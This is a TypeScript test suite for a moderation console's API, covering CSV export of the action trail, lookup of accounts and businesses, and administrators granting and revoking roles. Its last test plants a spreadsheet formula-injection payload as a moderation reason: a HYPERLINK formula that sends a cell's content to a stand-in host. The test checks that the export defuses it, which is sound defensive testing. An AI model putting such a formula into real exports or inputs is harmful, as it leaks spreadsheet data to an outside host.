import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  consoleMessages,
  trailCsvColumns,
  type Lookup,
  type OperatorChange,
  type TrailEntry,
} from '@wbn/contracts';
import { eq, tables } from '@wbn/db';
import { createTestApp, type TestApp } from '../../../test/test-app.ts';
import { authHeaders, createSignedInUser, type SignedInUser } from '../../../test/auth-helpers.ts';
import { createBusiness } from '../../../test/business-fixtures.ts';
import { runOperatorCommand } from './operator-command.ts';

// The operators' console's routes (decision 0025): the trail as CSV, lookup of accounts and
// businesses with their history, and administrators granting and revoking roles.

let t: TestApp;
let author: SignedInUser;
let reporter: SignedInUser;
let moderator: SignedInUser;
let admin: SignedInUser;
let postID: string;
let businessID: string;

type Method = 'GET' | 'POST' | 'DELETE';
const call = (user: SignedInUser | null, method: Method, url: string, payload?: object) =>
  t.app.inject({
    method,
    url,
    headers: user ? authHeaders(user.token) : {},
    ...(payload ? { payload } : {}),
  });

async function ok<T>(user: SignedInUser, method: Method, url: string, payload?: object): Promise<T> {
  const res = await call(user, method, url, payload);
  expect(res.statusCode, res.body).toBeLessThan(300);
  return res.json().data as T;
}

/** A plain RFC 4180 reader for the test (quoted fields, doubled quotes, CRLF or LF line ends). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  if (field || row.length) rows.push([...row, field]);
  return rows;
}

beforeAll(async () => {
  t = await createTestApp();
  author = await createSignedInUser(t);
  reporter = await createSignedInUser(t);
  moderator = await createSignedInUser(t);
  admin = await createSignedInUser(t);
  for (const u of [author, reporter, moderator, admin]) await call(u, 'GET', '/api/user/profile');
  postID = (
    await ok<{ postID: string }>(author, 'POST', '/api/social/posts/make-post', {
      content: 'Genuine replica valves, cheap',
      timelineType: 'user',
      timelineID: author.userID,
    })
  ).postID;
  businessID = (await createBusiness(t, author, { companyName: 'Valvulas Zafiro Norte' })).businessID;
  await runOperatorCommand(t.db, ['grant', moderator.email, 'moderator']);
  await runOperatorCommand(t.db, ['grant', admin.email, 'admin']);
}, 120_000);

afterAll(async () => {
  await t?.close();
});

describe("the signed-in account's role", () => {
  it('answers the role, or null for an account without one', async () => {
    expect(await ok(moderator, 'GET', '/api/admin/me')).toEqual({ role: 'moderator' });
    expect(await ok(admin, 'GET', '/api/admin/me')).toEqual({ role: 'admin' });
    expect(await ok(reporter, 'GET', '/api/admin/me')).toEqual({ role: null });
  });
});

describe('the trail as CSV', () => {
  it('reads back exactly, a reason with a comma, a quote and a line break included', async () => {
    const reason = 'Spam, "replica" goods\nsecond line of the reason';
    await ok(reporter, 'POST', '/api/reports', {
      itemType: 'post',
      itemID: postID,
      reason: 'prohibited',
      text: 'Replicas.',
    });
    const { entryID } = await ok<{ entryID: string }>(moderator, 'POST', '/api/admin/actions', {
      action: 'hide',
      itemType: 'post',
      itemID: postID,
      reason,
    });
    const res = await call(moderator, 'GET', '/api/admin/trail.csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toContain('attachment');
    const [header, ...rows] = parseCsv(res.body);
    expect(header).toEqual([...trailCsvColumns]);
    const entries = (await ok<{ entries: TrailEntry[] }>(moderator, 'GET', '/api/admin/trail')).entries;
    expect(rows).toHaveLength(entries.length);
    const col = (name: (typeof trailCsvColumns)[number]) => trailCsvColumns.indexOf(name);
    // Newest first, as the trail: the hide is the first line.
    const hide = rows[0]!;
    expect(hide[col('entryID')]).toBe(entryID);
    expect(hide[col('why')]).toBe(reason);
    expect(hide[col('what')]).toBe('hide');
    expect(hide[col('who')]).toBe(entries[0]!.operator!.name);
    expect(hide[col('operatorID')]).toBe(moderator.userID);
    expect(hide[col('itemID')]).toBe(postID);
    expect(hide[col('subjectAccountID')]).toBe(author.userID);
    expect(JSON.parse(hide[col('before')]!)).toEqual({ hiddenAt: null });
    expect(JSON.parse(hide[col('after')]!)).toEqual(entries[0]!.after);
    expect(Date.parse(hide[col('when')]!) / 1000).toBe(entries[0]!.createdAt);
    // The command line's grants: no operator.
    const grant = rows.find((r) => r[col('what')] === 'grant-role')!;
    expect([grant[col('who')], grant[col('operatorID')]]).toEqual(['command line', '']);
    expect(grant[col('reverses')]).toBe('');
    // Every line has every column.
    for (const row of rows) expect(row).toHaveLength(trailCsvColumns.length);
  });
});

describe('lookup', () => {
  it('finds an account by e-mail, with its role, suspension, reports and trail', async () => {
    const found = await ok<Lookup>(
      moderator,
      'GET',
      `/api/admin/lookup?q=${encodeURIComponent(author.email.toUpperCase())}`,
    );
    expect(found.accounts.map((a) => a.userID)).toEqual([author.userID]);
    const account = found.accounts[0]!;
    expect(account).toMatchObject({ email: author.email, role: null, suspension: null });
    expect(account.reports.map((r) => [r.itemType, r.itemID, r.status])).toEqual([
      ['post', postID, 'closed'],
    ]);
    expect(account.trail.map((e) => e.action)).toEqual(['hide']);
    const mod = await ok<Lookup>(
      moderator,
      'GET',
      `/api/admin/lookup?q=${encodeURIComponent(moderator.email)}`,
    );
    expect(mod.accounts[0]).toMatchObject({ userID: moderator.userID, role: 'moderator' });
  });

  it('finds a business by part of its name, with its owner and what was reported about it', async () => {
    await ok(reporter, 'POST', '/api/reports', {
      itemType: 'business',
      itemID: businessID,
      reason: 'fraud',
      text: 'Takes deposits, ships nothing.',
    });
    const found = await ok<Lookup>(moderator, 'GET', '/api/admin/lookup?q=zafiro%20NORTE');
    expect(found.businesses).toHaveLength(1);
    expect(found.businesses[0]).toMatchObject({
      businessID,
      name: 'Valvulas Zafiro Norte',
      owner: { userID: author.userID, email: author.email },
    });
    expect(found.businesses[0]!.reports.map((r) => [r.itemType, r.reason, r.status])).toEqual([
      ['business', 'fraud', 'open'],
    ]);
    // A suspension shows on the owner's account.
    await ok(moderator, 'POST', '/api/admin/actions', {
      action: 'suspend',
      itemType: 'business',
      itemID: businessID,
      reason: 'Fraud',
      days: 7,
    });
    const again = await ok<Lookup>(moderator, 'GET', `/api/admin/lookup?q=${author.email}`);
    expect(again.accounts[0]!.suspension).toMatchObject({ reason: 'Fraud' });
    expect(again.accounts[0]!.suspension!.until).toBeGreaterThan(Date.now() / 1000);
    expect(again.accounts[0]!.trail.map((e) => e.action)).toEqual(['suspend', 'hide']);
  });

  it('answers nothing for what matches nothing, treats % and _ as text, and names a bad query', async () => {
    expect(await ok(moderator, 'GET', '/api/admin/lookup?q=nothing-like-this-anywhere')).toEqual({
      accounts: [],
      businesses: [],
    });
    expect(await ok(moderator, 'GET', '/api/admin/lookup?q=%25%25')).toEqual({
      accounts: [],
      businesses: [],
    });
    for (const url of [
      '/api/admin/lookup',
      '/api/admin/lookup?q=a',
      `/api/admin/lookup?q=${'x'.repeat(201)}`,
    ]) {
      const res = await call(moderator, 'GET', url);
      expect(res.statusCode, url).toBe(400);
      expect(res.json().errors.map((e: { path: string }) => e.path)).toContain('querystring.q');
    }
  });
});

describe('operators granted and revoked by an administrator', () => {
  it('grants by e-mail, changes the role and revokes, each a trail entry naming the administrator', async () => {
    const someone = await createSignedInUser(t);
    const granted = await ok<OperatorChange>(admin, 'POST', '/api/admin/operators', {
      email: ` ${someone.email.toUpperCase()} `,
      role: 'moderator',
    });
    expect(granted.entryID).not.toBeNull();
    expect(granted.operators.find((o) => o.userID === someone.userID)).toMatchObject({ role: 'moderator' });
    expect((await call(someone, 'GET', '/api/admin/queue')).statusCode).toBe(200);
    // The same role again changes nothing and records nothing.
    expect(
      (
        await ok<OperatorChange>(admin, 'POST', '/api/admin/operators', {
          email: someone.email,
          role: 'moderator',
        })
      ).entryID,
    ).toBeNull();
    await ok(admin, 'POST', '/api/admin/operators', { email: someone.email, role: 'admin' });
    const revoked = await ok<OperatorChange>(admin, 'DELETE', `/api/admin/operators/${someone.userID}`);
    expect(revoked.operators.map((o) => o.userID)).not.toContain(someone.userID);
    expect((await call(someone, 'GET', '/api/admin/queue')).statusCode).toBe(403);
    const trail = await t.db
      .select()
      .from(tables.moderationTrail)
      .where(eq(tables.moderationTrail.subjectAccountId, someone.userID))
      .orderBy(tables.moderationTrail.createdAt);
    expect(trail.map((e) => [e.action, e.operatorUserId, e.before, e.after])).toEqual([
      ['grant-role', admin.userID, { role: null }, { role: 'moderator' }],
      ['grant-role', admin.userID, { role: 'moderator' }, { role: 'admin' }],
      ['revoke-role', admin.userID, { role: 'admin' }, { role: null }],
    ]);
  });

  it('names the field of an unknown role or a bad e-mail (400)', async () => {
    const cases: [object, string][] = [
      [{ email: reporter.email, role: 'owner' }, 'body.role'],
      [{ email: reporter.email }, 'body.role'],
      [{ email: 'not-an-address', role: 'moderator' }, 'body.email'],
      [{ role: 'moderator' }, 'body.email'],
    ];
    for (const [body, path] of cases) {
      const res = await call(admin, 'POST', '/api/admin/operators', body);
      expect(res.statusCode, path).toBe(400);
      expect(res.json().errors.map((e: { path: string }) => e.path)).toContain(path);
    }
    const res = await call(admin, 'DELETE', '/api/admin/operators/not-a-uuid');
    expect(res.statusCode).toBe(400);
    expect(res.json().errors.map((e: { path: string }) => e.path)).toContain('params.userID');
  });

  it('answers 404 for an e-mail no account signs in with, or an account without a role', async () => {
    const res = await call(admin, 'POST', '/api/admin/operators', {
      email: 'nobody-here@example.com',
      role: 'moderator',
    });
    expect(res.statusCode).toBe(404);
    expect(res.json().message).toBe('No account signs in as nobody-here@example.com.');
    const none = await call(admin, 'DELETE', `/api/admin/operators/${reporter.userID}`);
    expect(none.statusCode).toBe(404);
    expect(none.json().message).toBe(consoleMessages.noRole);
    expect(
      (await call(admin, 'DELETE', '/api/admin/operators/00000000-0000-4000-8000-000000000000')).statusCode,
    ).toBe(404);
  });

  it("refuses an administrator's change of their own role (409), which stays", async () => {
    const revoke = await call(admin, 'DELETE', `/api/admin/operators/${admin.userID}`);
    expect(revoke.statusCode).toBe(409);
    expect(revoke.json().message).toBe(consoleMessages.ownRole);
    const demote = await call(admin, 'POST', '/api/admin/operators', {
      email: admin.email,
      role: 'moderator',
    });
    expect(demote.statusCode).toBe(409);
    expect(await ok(admin, 'GET', '/api/admin/me')).toEqual({ role: 'admin' });
  });
});

// Last: its warning is the trail's newest entry, which the tests above do not expect.
describe('the trail as CSV, opened in a spreadsheet', () => {
  it('keeps a reason that a spreadsheet would run as a formula as text', async () => {
    // A post and a report of their own: the accounts above were warned and suspended.
    const [writer, reader] = [await createSignedInUser(t), await createSignedInUser(t)];
    for (const u of [writer, reader]) await call(u, 'GET', '/api/user/profile');
    const { postID } = await ok<{ postID: string }>(writer, 'POST', '/api/social/posts/make-post', {
      content: 'Wholesale offer, write to me',
      timelineType: 'user',
      timelineID: writer.userID,
    });
    await ok(reader, 'POST', '/api/reports', {
      itemType: 'post',
      itemID: postID,
      reason: 'spam',
      text: 'x',
    });
    const reason = '=HYPERLINK("http://example.test/?q="&A1,"open")';
    await ok(moderator, 'POST', '/api/admin/actions', {
      action: 'warn',
      itemType: 'post',
      itemID: postID,
      reason,
    });
    const [header, first] = parseCsv((await call(moderator, 'GET', '/api/admin/trail.csv')).body);
    expect(first![header!.indexOf('why')]).toBe(`'${reason}`);
  });
});
